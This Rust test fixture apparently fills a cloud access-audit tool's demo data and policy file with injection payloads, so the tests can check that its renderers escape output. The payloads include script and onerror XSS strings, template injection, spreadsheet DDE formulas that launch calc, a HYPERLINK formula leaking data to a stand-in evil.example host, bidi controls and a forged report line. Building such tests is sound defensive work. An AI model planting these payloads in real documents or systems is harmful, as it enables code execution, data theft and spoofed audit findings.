//! A hostile world: the demo estate with every free-text field Atlas (or the policy file) can
//! supply replaced by payloads aimed at the renderers: markup and script, template syntax,
//! spreadsheet formulas and DDE, CSV delimiters, newlines, bidirectional and other invisible
//! controls, NUL and C0/C1 controls, non-BMP and non-characters, and 100 kB strings. The
//! payloads are handed out in turn, so every field gets one and every payload lands in many
//! kinds of field.

use std::collections::BTreeMap;

use atlas_audit::model::{
    CoverageGap, Event, NetworkEntry, PrincipalDetail, PrincipalKind, Scope, Snapshot, Via, key,
};

/// Characters a 100 kB payload is made of (bytes, not characters).
pub const LONG_BYTES: usize = 100 * 1024;

/// A line a payload tries to forge in `email.txt`: it must never start a line there.
pub const FORGED_LINE: &str = " 1. [CRITICAL] FORGED_FINDING";

/// The short payloads.
pub fn payloads() -> Vec<String> {
    [
        "<script>document.title='PWNED'</script>",
        "<img src=x onerror=\"document.title='PWNED'\">",
        "javascript:alert(document.domain)",
        "<a href=\"javascript:alert(1)\">click me</a>",
        "</style><script>document.title='PWNED'</script><style>",
        "\"><svg onload=\"document.title='PWNED'\">",
        "' onmouseover='alert(4)' x='",
        "<iframe srcdoc=\"&lt;script&gt;parent.document.title='PWNED'&lt;/script&gt;\"></iframe>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
        "<!-- comment --><![CDATA[ x ]]><?php echo 1 ?>",
        "{{ 7*7 }} {% for x in [1] %}loop{% endfor %} {# note #} {{ get_env(name=\"HOME\") }}",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C notepad'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\0=cmd|' /C calc'!A0",
        "\n=1+1",
        "a,b;c\td\"e\"\"f'",
        "first line\nsecond line\r\nthird line\rfourth",
        "x\n\n 1. [CRITICAL] FORGED_FINDING",
        "\u{202e}gnp.exe\u{202c} \u{2066}isolate\u{2069} \u{2067}rtl\u{2069} \u{2068}fsi\u{2069} \u{200f}rlm\u{200e}lrm \u{061c}alm \u{202a}lre\u{202c}\u{202b}rle\u{202c}\u{202d}lro\u{202c}",
        "nul\u{0}bel\u{7}bs\u{8}vt\u{b}ff\u{c}esc\u{1b}[31mred\u{1b}[0m del\u{7f} c1\u{80}\u{85}\u{9b}\u{9f}",
        "invisible\u{200b}zwsp\u{2060}wj\u{feff}bom\u{ad}shy\u{180e}mvs\u{2061}fa\u{206a}iss\u{fff9}iaa\u{3164}filler",
        "tags\u{e0001}\u{e0061}\u{e0064}\u{e006d}\u{e0069}\u{e006e}\u{e007f} ls\u{2028}ps\u{2029}end",
        "emoji 😀🔥👩\u{200d}💻 🏳\u{fe0f}\u{200d}🌈 \u{1f600}",
        "edges \u{d7ff}\u{e000}\u{fffd}\u{fffe}\u{ffff}\u{1fffe}\u{10ffff}",
        "_x0000_ _x005F_ _xD83D_ literal escapes",
        "&lt;b&gt;entity&lt;/b&gt; &amp;amp; &#x3c;script&#x3e;",
        "']]></t></is></c><c><f>1+1</f></c><is><t>",
    ]
    .into_iter()
    .map(String::from)
    .collect()
}

/// Two 100 kB strings: one of formula-led markup, one of emoji (two UTF-16 units each, so that
/// Excel's limit of 32,767 units falls well inside it). They go to a few fields only (see
/// [`hostile_world`]): a page that repeated them in every row would be hundreds of megabytes.
pub fn long_payloads() -> [String; 2] {
    let unit = "<b onclick=x>&\"'";
    [
        format!("=1+1 {}", unit.repeat((LONG_BYTES - 5) / unit.len() + 1)),
        format!("😀{}", "😀\u{1f525}".repeat(LONG_BYTES / 8)),
    ]
}

/// The hostile world and what was put into it.
pub struct HostileWorld {
    /// The estate.
    pub snapshot: Snapshot,
    /// The demo estate it was made from, as the baseline of the review.
    pub baseline: Snapshot,
    /// A policy whose exemptions carry payloads in every text field.
    pub policy: String,
    /// The short payloads, in the order [`payloads`] gives them.
    pub payloads: Vec<String>,
    /// The 100 kB payloads, and the principal keys whose names they are.
    pub long: [String; 2],
    /// Principals named by a 100 kB payload.
    pub long_named: Vec<String>,
}

/// Hands out the payloads in turn.
struct Cycle {
    payloads: Vec<String>,
    next: usize,
}

impl Cycle {
    fn next(&mut self) -> String {
        let p = self.payloads[self.next % self.payloads.len()].clone();
        self.next += 1;
        p
    }

    /// A payload made unique with a counter, for text that names something (a key, a cluster).
    fn unique(&mut self) -> String {
        let n = self.next;
        format!("{}#{n}", self.next())
    }
}

/// The demo estate with every free-text field replaced (see the module doc). Keys follow the
/// names they are made of, and every reference to a renamed thing (grants, team memberships,
/// event actors, access logs, cluster scopes, custom roles) follows it, so the rules find what
/// they find in the demo.
pub fn hostile_world() -> HostileWorld {
    let baseline = super::demo_snapshot();
    let mut s = baseline.clone();
    let mut c = Cycle {
        payloads: payloads(),
        next: 0,
    };

    s.meta.tool_version = c.next();
    s.meta.credential = c.next();
    s.meta.scope.orgs = s.orgs.iter().map(|_| c.next()).collect();
    s.meta.scope.projects = vec![c.next()];

    for o in &mut s.orgs {
        o.name = c.next();
        if let Some(settings) = &mut o.settings
            && settings.security_contact.is_some()
        {
            settings.security_contact = Some(c.next());
        }
    }

    // Clusters, and custom roles, renamed everywhere they are named.
    let mut clusters: BTreeMap<(String, String), String> = BTreeMap::new();
    let mut roles: BTreeMap<(String, String), String> = BTreeMap::new();
    for p in &mut s.projects {
        p.name = c.next();
        p.tags.insert(c.unique(), c.next());
        for entry in p.ip_access_list.iter_mut().flatten() {
            entry.comment = Some(c.next());
        }
        p.ip_access_list
            .get_or_insert_with(Vec::new)
            .push(NetworkEntry {
                source: "203.0.113.7/32".into(),
                comment: Some(c.next()),
                delete_after: None,
            });
        if let Some(audit) = &mut p.audit_log {
            audit.configuration_type = Some(c.next());
        }
        for cl in p.clusters.iter_mut().flatten() {
            let new = c.unique();
            clusters.insert((p.id.clone(), cl.name.clone()), new.clone());
            cl.name = new;
            cl.tags.insert(c.unique(), c.next());
            cl.state = Some(c.next());
            cl.mongodb_version = Some(c.next());
        }
    }
    for r in &mut s.custom_roles {
        let new = c.unique();
        roles.insert((r.project_id.clone(), r.name.clone()), new.clone());
        r.name = new;
    }
    let cluster = |project: &str, name: &str| {
        clusters
            .get(&(project.to_string(), name.to_string()))
            .cloned()
            .unwrap_or_else(|| name.to_string())
    };
    let role = |project: &str, name: &str| {
        roles
            .get(&(project.to_string(), name.to_string()))
            .cloned()
            .unwrap_or_else(|| name.to_string())
    };

    // Principals: new names, and new keys where the key is made of a name.
    let mut keys: BTreeMap<String, String> = BTreeMap::new();
    let mut usernames: BTreeMap<String, String> = BTreeMap::new();
    let mut teams: BTreeMap<(String, String), String> = BTreeMap::new();
    let mut db_usernames: BTreeMap<(String, String), String> = BTreeMap::new();
    let long = long_payloads();
    let (mut long_user, mut long_key) = (None, None);
    for p in &mut s.principals {
        let old_key = p.key.clone();
        match &mut p.detail {
            PrincipalDetail::AtlasUser(u) => {
                let new = if long_user.is_none() {
                    long[0].clone()
                } else {
                    c.unique()
                };
                usernames.insert(u.username.clone(), new.clone());
                u.username = new.clone();
                u.full_name = Some(c.next());
                u.country = Some(c.next());
                p.key = key::user(&new);
                p.name = new;
                long_user.get_or_insert_with(|| p.key.clone());
            }
            PrincipalDetail::ApiKey(k) => {
                k.description = Some(c.next());
                p.name = if long_key.is_none() {
                    long_key = Some(p.key.clone());
                    long[1].clone()
                } else {
                    c.next()
                };
                for entry in k.access_list.iter_mut().flatten() {
                    entry.last_used_address = Some(c.next());
                }
            }
            PrincipalDetail::ServiceAccount(a) => {
                a.description = Some(c.next());
                p.name = c.next();
                for secret in &mut a.secrets {
                    secret.masked_value = Some(c.next());
                }
            }
            PrincipalDetail::Team(_) => {
                let org = p.org_ids.first().cloned().unwrap_or_default();
                let new = c.unique();
                teams.insert((org.clone(), p.name.clone()), new.clone());
                p.key = key::team(&org, &new);
                p.name = new;
            }
            PrincipalDetail::IdpGroup(_) => {
                let org = p.org_ids.first().cloned().unwrap_or_default();
                let new = c.unique();
                p.key = key::idp_group(&org, &new);
                p.name = new;
            }
            PrincipalDetail::DatabaseUser(d) => {
                let project = p.project_id.clone().unwrap_or_default();
                let new = c.unique();
                db_usernames.insert((project.clone(), d.username.clone()), new.clone());
                d.username = new.clone();
                d.description = Some(if db_usernames.len() == 1 {
                    long[1].clone()
                } else {
                    c.next()
                });
                d.labels = vec![c.next(), format!("{}={}", c.next(), c.next())];
                for scope in &mut d.scopes {
                    *scope = cluster(&project, scope);
                }
                for r in &mut d.roles {
                    r.role = role(&project, &r.role);
                }
                d.roles.push(atlas_audit::model::DatabaseRole {
                    role: c.next(),
                    database: c.next(),
                    collection: Some(c.next()),
                });
                p.key = key::database_user(&project, &d.database_name, &new);
                p.name = new;
            }
            PrincipalDetail::CloudProviderRole(r) => {
                r.customer_identity = Some(c.next());
                p.name = c.next();
                for f in &mut r.features {
                    f.target = c.next();
                }
            }
        }
        keys.insert(old_key, p.key.clone());
    }
    for p in &mut s.principals {
        match &mut p.detail {
            PrincipalDetail::AtlasUser(u) => {
                for m in &mut u.memberships {
                    for t in &mut m.teams {
                        if let Some(new) = teams.get(&(m.org_id.clone(), t.clone())) {
                            *t = new.clone();
                        }
                    }
                    if let Some(inviter) = &mut m.inviter {
                        *inviter = usernames
                            .get(inviter.as_str())
                            .cloned()
                            .unwrap_or_else(|| c.next());
                    }
                }
            }
            PrincipalDetail::Team(t) => {
                for m in &mut t.members {
                    if let Some(new) = keys.get(m.as_str()).or(usernames.get(m.as_str())) {
                        *m = new.clone();
                    }
                }
            }
            _ => {}
        }
    }
    s.principals.sort_by(|a, b| a.key.cmp(&b.key));

    let mut extra = Vec::new();
    for g in &mut s.grants {
        if let Some(new) = keys.get(&g.principal) {
            g.principal = new.clone();
        }
        if let Via::Team(name) = &mut g.via
            && let Some(new) = teams.get(&(g.scope.org_id().to_string(), name.clone()))
        {
            *name = new.clone();
        }
        if let Scope::Database {
            project_id,
            clusters,
            resource,
            ..
        } = &mut g.scope
        {
            for cl in clusters.iter_mut() {
                *cl = cluster(project_id, cl);
            }
            g.role = role(project_id, &g.role);
            if resource != "admin" {
                *resource = c.next();
            }
        }
    }
    // A role Atlas may add one day: shown, never dropped, and hostile.
    for p in s
        .principals
        .iter()
        .filter(|p| p.kind == PrincipalKind::AtlasUser)
        .take(3)
    {
        extra.push(atlas_audit::model::Grant {
            principal: p.key.clone(),
            scope: Scope::Org {
                org_id: p.org_ids[0].clone(),
            },
            role: c.next(),
            via: Via::Direct,
        });
    }
    s.grants.extend(extra);
    s.grants.sort();

    for e in &mut s.events {
        e.actor = e.actor.as_ref().map(|a| {
            usernames
                .get(a)
                .or(keys.get(a))
                .cloned()
                .unwrap_or_else(|| c.next())
        });
        e.remote_address = Some(c.next());
        e.target = Some(c.next());
    }
    let org = s.orgs[0].id.clone();
    s.events.push(Event {
        id: c.unique(),
        created: super::now() - jiff::SignedDuration::from_hours(24),
        event_type: c.next(),
        org_id: Some(org.clone()),
        project_id: None,
        actor: Some(c.next()),
        by_mongodb_staff: false,
        remote_address: Some(c.next()),
        target: Some(c.next()),
    });
    for l in &mut s.access_logs {
        if let Some(new) = db_usernames.get(&(l.project_id.clone(), l.username.clone())) {
            l.username = new.clone();
        }
        l.cluster = cluster(&l.project_id, &l.cluster);
        l.auth_source = Some(c.next());
        l.failure_reason = Some(c.next());
        l.ip_address = Some(c.next());
    }
    for w in &mut s.access_log_windows {
        w.cluster = cluster(&w.project_id, &w.cluster);
    }
    // Every payload once as a gap's reason, which every page shows, wherever the turns of
    // the fields above left off (they depend on how many access-log entries the demo holds).
    for reason in c.payloads.clone() {
        s.coverage.push(CoverageGap {
            scope: c.unique(),
            endpoint: c.next(),
            status: Some(403),
            error_code: Some(c.next()),
            reason,
        });
    }
    s.coverage.push(CoverageGap {
        scope: key::org(&org),
        endpoint: c.next(),
        status: None,
        error_code: None,
        reason: long[0].clone(),
    });
    s.coverage.sort();

    let long_named = long_user.into_iter().chain(long_key).collect();
    let policy = policy(&mut c, &long[1]);
    HostileWorld {
        snapshot: s,
        baseline,
        policy,
        payloads: c.payloads,
        long,
        long_named,
    }
}

/// A TOML basic string holding `s` exactly.
pub fn toml_string(s: &str) -> String {
    let mut out = String::from("\"");
    for ch in s.chars() {
        match ch {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() => out.push_str(&format!("\\u{:04X}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Exemptions with payloads for reason, owner and ticket: one current (every database admin),
/// one expired (every org owner, its reason 100 kB long), one that matches nothing and whose
/// pattern is itself hostile.
fn policy(c: &mut Cycle, long: &str) -> String {
    let as_of = super::now();
    let next_year = (as_of + jiff::SignedDuration::from_hours(24 * 365))
        .strftime("%Y-%m-%d")
        .to_string();
    let last_year = (as_of - jiff::SignedDuration::from_hours(24 * 365))
        .strftime("%Y-%m-%d")
        .to_string();
    // A pattern that is itself hostile, and matches nothing.
    let nothing = "team:*<img src=x onerror=alert(9)>*".to_string();
    let mut toml = String::new();
    for (rule, principal, expires, reason) in [
        (
            "DBUSER_ADMIN_ROLE",
            "dbuser:*".to_string(),
            next_year.as_str(),
            c.next(),
        ),
        (
            "USER_ORG_OWNER",
            "user:*".to_string(),
            last_year.as_str(),
            long.to_string(),
        ),
        (
            "TEAM_EMPTY_WITH_ROLES",
            nothing,
            next_year.as_str(),
            c.next(),
        ),
    ] {
        toml.push_str(&format!(
            "[[exemption]]\nrule = \"{rule}\"\nprincipal = {}\nreason = {}\nowner = {}\nticket = {}\nexpires = {expires}\n\n",
            toml_string(&principal),
            toml_string(&reason),
            toml_string(&c.next()),
            toml_string(&c.next()),
        ));
    }
    toml
}
